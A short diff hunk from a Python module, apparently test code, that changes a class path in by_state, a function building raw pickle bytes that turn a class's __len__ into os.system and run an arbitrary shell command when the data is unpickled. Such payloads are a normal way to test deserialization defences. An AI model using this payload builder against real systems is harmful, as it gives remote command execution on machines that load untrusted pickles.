@@ -150,7 +150,7 @@ def by_object(command: str) -> bytes:
 def by_state(command: str) -> bytes:
     """Makes a class of ours call it: `BUILD` on a class sets its attributes."""
     state = b"N}(" + text("__len__") + name("os", "system") + b"u\x86"
-    patched = name("onceflow.core.graph", "Graph") + state + b"b0"
+    patched = name("onceflow.core.model.graph", "Graph") + state + b"b0"
     return b"\x80\x04" + patched + call("os", "system", text(command)) + b"."
 
 
